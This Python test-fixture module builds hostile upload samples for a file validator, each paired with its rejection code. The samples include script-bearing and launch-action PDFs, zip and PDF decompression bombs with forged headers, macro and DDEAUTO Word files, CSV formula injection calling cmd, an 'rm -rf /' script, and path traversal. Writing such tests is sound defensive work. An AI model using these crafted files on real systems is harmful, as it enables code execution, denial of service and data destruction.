"""Files that must not come in, made here: (what it is) -> (name, content, the code that it is refused with).

What takes long to make is a function that makes it."""

import io
import struct
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.factories.attachments import OFFICE, odt_parts, packed, pdf, picture, word_parts, workbook

PROGRAM = b"MZ\x90\x00" + bytes(200)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)
SCRIPT = "app.alert('hei')"


def pdf_with(change, **saved) -> bytes:
    made = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        change(document)
        document.save(made, **saved)
    return made.getvalue()


def opens_with_script(document):
    document.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String(SCRIPT))


def names_script(document):
    script = document.make_indirect(Dictionary(S=Name.JavaScript, JS=String(SCRIPT)))
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))


def starts_a_program(document):
    document.pages[0].Annots = Array(
        [
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Link,
                Rect=Array([0, 0, 9, 9]),
                A=Dictionary(S=Name.Launch, F=String("cmd.exe")),
            )
        ]
    )


def acts_when_the_page_opens(document):
    document.pages[0].AA = Dictionary(O=Dictionary(S=Name.URI, URI=String("https://prove.example/")))


def carries_a_file(document):
    document.attachments["a.exe"] = PROGRAM


def opens_an_address(document):
    document.Root.OpenAction = Dictionary(S=Name.URI, URI=String("https://prove.example/"))


def sends_a_form(document):
    document.pages[0].Annots = Array(
        [Dictionary(Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F=String("https://prove.example/")))]
    )


def holds_xfa(document):
    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=document.make_stream(b"<xdp/>"))


def raw_pdf(objects: list[bytes]) -> bytes:
    """Objects as they are written, one after another from number 1, which is the catalogue, with a table of places."""
    content, places = one_by_one(objects)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, len(content))
    return content + b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + table + end


def one_by_one(objects: list[bytes]) -> tuple[bytes, list[int]]:
    content, places = b"%PDF-1.7\n", []
    for number, written in enumerate(objects, 1):
        places.append(len(content))
        content += b"%d 0 obj%s endobj\n" % (number, written)
    return content, places


def script_in_disguise() -> bytes:
    """The names written with escapes, as the format allows: a search for /JavaScript does not find them."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Annots[<</Subtype/Link/Rect[0 0 9 9]/A 4 0 R>>]>>"
    script = b"<</#53/Java#53cript/#4a#53(app.alert(1))>>"
    return raw_pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", page, script])


def pdf_bomb() -> bytes:
    """A stream of packed objects, of a megabyte, that unpacks to one thousand."""
    packer = zlib.compressobj(9)
    stuffed = packer.compress(b"4 0 <<>>") + b"".join(packer.compress(b" " * 1_000_000) for _ in range(1_000))
    stuffed += packer.flush()
    head = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(stuffed)
    stream = head + stuffed + b"\nendstream"
    content, places = one_by_one([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>", stream])
    rows = struct.pack(">BIH", 0, 0, 65_535) + b"".join(struct.pack(">BIH", 1, place, 0) for place in places)
    rows += struct.pack(">BIH", 2, 3, 0) + struct.pack(">BIH", 1, len(content), 0)
    head = b"5 0 obj<</Type/XRef/Size 6/W[1 4 2]/Root 1 0 R/Length %d>>stream\n" % len(rows)
    return content + head + rows + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % len(content)


def without_its_table() -> bytes:
    """The offsets of the cross-reference table are off by some bytes: some readers mend that, each in its way."""
    return pdf().replace(b"%PDF-", b"%PDF-1.3\n%PDF-", 1)


def deflated(content: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(content) + packer.flush()


def zip_with_false_sizes() -> bytes:
    """Both headers say 10 bytes; unpacked they are sixty million. The sum fits the first ten."""
    return forged(deflated(b"\0" * 60_000_000), zlib.crc32(b"\0" * 10))


def forged(stuffed: bytes, checksum: int) -> bytes:
    """A Word document with a picture of which both headers say that it is 10 bytes with this sum."""
    parts = packed({**word_parts(), "word/media/image1.png": b"x" * 10})
    made = io.BytesIO(parts)
    with zipfile.ZipFile(made) as package:
        info = package.getinfo("word/media/image1.png")
    start = info.header_offset + 30 + len(info.filename)
    local = bytearray(parts[: info.header_offset + 30])
    struct.pack_into("<3I", local, info.header_offset + 14, checksum, len(stuffed), 10)
    directory_at = parts.rindex(b"PK\x05\x06")
    directory = bytearray(parts[start + info.compress_size : directory_at])
    entry = directory.rindex(b"PK\x01\x02")
    struct.pack_into("<3I", directory, entry + 16, checksum, len(stuffed), 10)
    end = bytearray(parts[directory_at:])
    offset = len(local) + len(info.filename) + len(stuffed)
    struct.pack_into("<I", end, 16, offset)
    return bytes(local) + info.filename.encode() + stuffed + bytes(directory) + bytes(end)


def overlapping_zip() -> bytes:
    """Many names for the same packed bytes: each size is honest, together they are more than the file holds."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in word_parts().items():
            package.writestr(name, content)
        package.writestr("word/media/image1.png", picture(size=(150, 150)))
        first = package.getinfo("word/media/image1.png")
        for number in range(2, 40):
            twin = zipfile.ZipInfo(f"word/media/image{number}.png")
            for fact in ("compress_type", "CRC", "compress_size", "file_size", "header_offset"):
                setattr(twin, fact, getattr(first, fact))
            package.filelist.append(twin)
            package.NameToInfo[twin.filename] = twin
    return made.getvalue()


def encrypted_zip() -> bytes:
    content = bytearray(packed(word_parts()))
    place = 0
    while (place := content.find(b"PK\x01\x02", place)) >= 0:
        content[place + 8] |= 1
        place += 4
    return bytes(content)


def of_two_names() -> bytes:
    """A part that the directory calls otherwise than its own header does."""
    return word_and("word/media/image1.png", picture()).replace(b"word/media/image1.png", b"word/vbaProject00.bin", 1)


def huge_png(width: int, height: int, unpacked: int = 1_000) -> bytes:
    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">2I5B", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(bytes(unpacked)))
        + chunk(b"IEND", b"")
    )


def png_with_false_sum() -> bytes:
    content = bytearray(picture())
    content[content.index(b"\0\0\0\0IEND") - 1] ^= 1
    return bytes(content)


def relation(kind: str, target: str, mode: str = "External") -> str:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r9" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    )


def word(**more: bytes | str) -> bytes:
    return packed(word_parts() | {name.replace("__", "/"): content for name, content in more.items()})


def word_and(name: str, content: bytes | str) -> bytes:
    return packed(word_parts() | {name: content})


def odt_with(old: str, new: str) -> bytes:
    parts = odt_parts()
    parts["content.xml"] = str(parts["content.xml"]).replace(old, new)
    return packed(parts)


DOCM = "application/vnd.ms-word.document.macroEnabled.main+xml"
DOTX = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
DOCTYPE = '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><w>&b;</w>'

HOSTILE = {
    "a program": ("oppsett.exe", PROGRAM, "kind_not_accepted"),
    "a program called PDF": ("sertifikat.pdf", PROGRAM, "content_disagrees"),
    "a program called text": ("notat.txt", PROGRAM, "content_disagrees"),
    "a program whose name reads backwards": ("sertifikat\u202efdp.exe", PROGRAM, "kind_not_accepted"),
    "a PDF called PNG": ("bilde.png", pdf(), "content_disagrees"),
    "a PNG called PDF": ("bilde.pdf", picture(), "content_disagrees"),
    "a PDF called text": ("notat.txt", pdf(), "content_disagrees"),
    "a workbook called Word": ("timer.docx", workbook(), "content_disagrees"),
    "no ending": ("sertifikat", pdf(), "no_ending"),
    "a hidden file": (".pdf", pdf(), "no_ending"),
    "HTML": ("side.html", b"<html><script>1</script>", "kind_not_accepted"),
    "HTML called text": ("side.txt", b"hello <script>alert(1)</script>", "is_a_page"),
    "HTML late in a text": ("side.txt", b"a" * 65_530 + b"<script>1</script>", "is_a_page"),
    "HTML called CSV": ("side.csv", b"  <!DOCTYPE html><p>hei", "is_a_page"),
    "HTML in UTF-16": ("side.txt", "<script>1</script>".encode("utf-16"), "is_a_page"),
    "SVG": ("logo.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='a()'/>", "kind_not_accepted"),
    "SVG called PNG": ("logo.png", b"<svg xmlns='http://www.w3.org/2000/svg'/>", "content_disagrees"),
    "SVG called text": ("logo.txt", b"\n <svg onload='a()'/>", "is_a_page"),
    "a script called text": ("oppsett.txt", b"#!/bin/sh\nrm -rf /\n", "can_run"),
    "bytes called text": ("notat.txt", b"abc\0def", "content_disagrees"),
    "a CSV with a formula": ("timer.csv", b"navn;timer\nA;\"=cmd|' /C calc'!A0\"\n", "formula_in_csv"),
    "a CSV that begins with one": ("timer.csv", b"\xef\xbb\xbf=1+1;2", "formula_in_csv"),
    "PDF and zip at once": ("a.pdf", pdf() + packed({"a.txt": "hei"}), "two_kinds"),
    "JPEG and zip at once": ("a.jpg", picture("JPEG") + packed({"a.txt": "hei"}), "two_kinds"),
    "text and PDF at once": ("a.txt", b"hei\n%PDF-1.7\n", "two_kinds"),
    "an archive": ("alt.zip", packed({"a.txt": "hei"}), "kind_not_accepted"),
    "an archive called Word": ("alt.docx", packed({"a.txt": "hei"}), "content_disagrees"),
    "a PDF that opens with a script": ("a.pdf", pdf_with(opens_with_script), "can_run"),
    "a PDF with script in a packed stream": (
        "a.pdf",
        pdf_with(names_script, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "can_run",
    ),
    "a PDF with script in plain objects": (
        "a.pdf",
        pdf_with(names_script, object_stream_mode=pikepdf.ObjectStreamMode.disable),
        "can_run",
    ),
    "a PDF with script by another spelling": ("a.pdf", script_in_disguise(), "can_run"),
    "a PDF that starts a program": ("a.pdf", pdf_with(starts_a_program), "can_run"),
    "a PDF that acts when a page is seen": ("a.pdf", pdf_with(acts_when_the_page_opens), "can_run"),
    "a PDF that opens an address": ("a.pdf", pdf_with(opens_an_address), "can_run"),
    "a PDF form that sends": ("a.pdf", pdf_with(sends_a_form), "can_run"),
    "a PDF with an XFA form": ("a.pdf", pdf_with(holds_xfa), "can_run"),
    "a PDF with a file in it": ("a.pdf", pdf_with(carries_a_file), "holds_files"),
    "a locked PDF": ("a.pdf", pdf(encryption=pikepdf.Encryption(user="u", owner="o")), "encrypted"),
    "a PDF with a part that cannot be read": (
        "a.pdf",
        raw_pdf([b"<</Type/Catalog/Pages 2 0 R/X 3 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>", b"<</S/JavaScript"]),
        "broken",
    ),
    "a PDF that unpacks to a gigabyte": ("a.pdf", pdf_bomb, "too_complex"),
    "a PDF cut in half": ("a.pdf", pdf()[:300], "broken"),
    "a PDF with two beginnings": ("a.pdf", without_its_table(), "broken"),
    "a Word document with macros": ("a.docm", packed(word_parts(DOCM)), "can_run"),
    "the same, renamed": ("a.docx", packed(word_parts(DOCM)), "can_run"),
    "a Word document with a macro project": ("a.docx", word_and("word/vbaProject.bin", OLE), "can_run"),
    "the project under another name": ("a.docx", word_and("word/styles2.xml", OLE), "can_run"),
    "a Word document with ActiveX": ("a.docx", word_and("word/activeX/activeX1.xml", "<a/>"), "can_run"),
    "a Word document with an object": ("a.docx", word_and("word/embeddings/oleObject1.bin", OLE), "holds_files"),
    "a Word document with an outside template": (
        "a.docx",
        word_and("word/_rels/settings.xml.rels", relation("attachedTemplate", "https://prove.example/a.dotm")),
        "fetches",
    ),
    "a Word document with an outside object": (
        "a.docx",
        word_and("word/_rels/document.xml.rels", relation("oleObject", "https://prove.example/a")),
        "holds_files",
    ),
    "a Word document with an outside picture": (
        "a.docx",
        word_and("word/_rels/document.xml.rels", relation("image", "https://prove.example/a.png")),
        "fetches",
    ),
    "a Word document that asks for a program": (
        "a.docx",
        word_and("word/header1.xml", "<w><instrText>DDEAUTO c:\\cmd.exe</instrText></w>"),
        "can_run",
    ),
    "a Word document with an add-in": ("a.docx", word_and("word/webextensions/taskpanes.xml", "<a/>"), "can_run"),
    "a workbook that asks the web": ("a.xlsx", workbook('=WEBSERVICE("https://prove.example/"&A1)'), "fetches"),
    "a workbook with old macros": ("a.xlsx", word_and("xl/macrosheets/sheet1.xml", "<a/>"), "can_run"),
    "a workbook with a connection": ("a.xlsx", word_and("xl/connections.xml", "<a/>"), "fetches"),
    "a workbook with links by DDE": (
        "a.xlsx",
        word_and("xl/externalLinks/externalLink1.xml", '<externalLink><ddeLink ddeService="cmd"/></externalLink>'),
        "can_run",
    ),
    "a Word template": ("a.docx", packed(word_parts(DOTX)), "content_disagrees"),
    "a Word document with a DOCTYPE": ("a.docx", word_and("word/header1.xml", DOCTYPE), "broken"),
    "a Word document with broken XML": ("a.docx", word_and("word/header1.xml", "<w><"), "broken"),
    "an old Word document": ("a.docx", OLE, "content_disagrees"),
    "a Word document with a password": ("a.docx", OLE + "EncryptedPackage".encode("utf-16-le"), "encrypted"),
    "a package with a password": ("a.docx", encrypted_zip(), "encrypted"),
    "a Word document cut in half": ("a.docx", packed(word_parts())[:400], "broken"),
    "a package behind something else": ("a.docx", b"GIF89a" + packed(word_parts()), "content_disagrees"),
    "a package with a path out of itself": ("a.docx", word_and("../../etc/passwd", "x"), "broken"),
    "an archive in a package": ("a.docx", word_and("word/media/image1.png", packed({"a": "b"})), "nested_archive"),
    "a packed file in a package": (
        "a.docx",
        word_and("word/media/image1.png", b"\x1f\x8b\x08" + bytes(9)),
        "nested_archive",
    ),
    "a program in a package": ("a.docx", word_and("word/media/image1.png", PROGRAM), "can_run"),
    "a bomb": ("a.docx", lambda: word_and("word/media/image1.bmp", bytes(51_000_000)), "zip_bomb"),
    "a small bomb": ("a.docx", word_and("word/media/image1.bmp", bytes(900_000)), "zip_bomb"),
    "a bomb with false sizes": ("a.docx", zip_with_false_sizes, "zip_bomb"),
    "a bomb of one part with many names": ("a.docx", overlapping_zip, "zip_bomb"),
    "too many parts": ("a.docx", lambda: word(**{f"p{number}": "" for number in range(2_001)}), "zip_bomb"),
    "a part with a false sum": ("a.docx", forged(deflated(b"y" * 10), zlib.crc32(b"x" * 10)), "broken"),
    "a part with something behind it": (
        "a.docx",
        forged(deflated(b"x" * 10) + b"more", zlib.crc32(b"x" * 10)),
        "broken",
    ),
    "a part of two names": ("a.docx", of_two_names(), "broken"),
    "a part that is there twice": ("a.docx", word_and("WORD/document.xml", "<w/>"), "broken"),
    "a package behind another": ("a.docx", packed({"a": "b"})[:40] + packed(word_parts()), "broken"),
    "a package with a word at its end": ("a.docx", packed(word_parts())[:-2] + b"\x03\0hei", "broken"),
    "an order that is cut in two": (
        "a.docx",
        word_and("word/header1.xml", "<w>" + "".join(f"{n:07d}" for n in range(9_361)) + " DDEAUTO cmd</w>"),
        "can_run",
    ),
    "an OpenDocument with a macro": (
        "a.odt",
        odt_with("<text:p>", '<text:p xmlns:s="urn:oasis:names:tc:opendocument:xmlns:script:1.0"><s:event-listener/>'),
        "can_run",
    ),
    "an OpenDocument with Basic": ("a.odt", packed(odt_parts() | {"Basic/script-lc.xml": "<a/>"}), "can_run"),
    "an OpenDocument that fetches": (
        "a.odt",
        odt_with("<text:p>", '<text:p><text:section-source xlink:href="https://prove.example/a"/>'),
        "fetches",
    ),
    "an OpenDocument with a password": (
        "a.odt",
        packed(
            odt_parts()
            | {
                "META-INF/manifest.xml": '<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
                "<m:encryption-data/></m:manifest>"
            }
        ),
        "encrypted",
    ),
    "an OpenDocument called Word": ("a.docx", packed(odt_parts()), "content_disagrees"),
    "a PNG cut in half": ("a.png", picture()[:1_000], "broken"),
    "a PNG with something behind it": ("a.png", picture() + b"<script>", "broken"),
    "a PNG that says it is vast": ("a.png", huge_png(60_000, 60_000), "too_many_pixels"),
    "a PNG a little too large": ("a.png", huge_png(8_000, 5_001), "too_many_pixels"),
    "a PNG without its picture": ("a.png", huge_png(2_000, 2_000), "broken"),
    "a PNG with more in it than its picture": ("a.png", huge_png(10, 10, 10_000_000), "broken"),
    "a PNG with a false sum": ("a.png", png_with_false_sum(), "broken"),
    "a JPEG cut in half": ("a.jpg", picture("JPEG", (400, 300))[:3_000], "broken"),
    "a JPEG drawn over and over": ("a.jpg", picture("JPEG") + b"\xff\xda" * 101, "broken"),
}
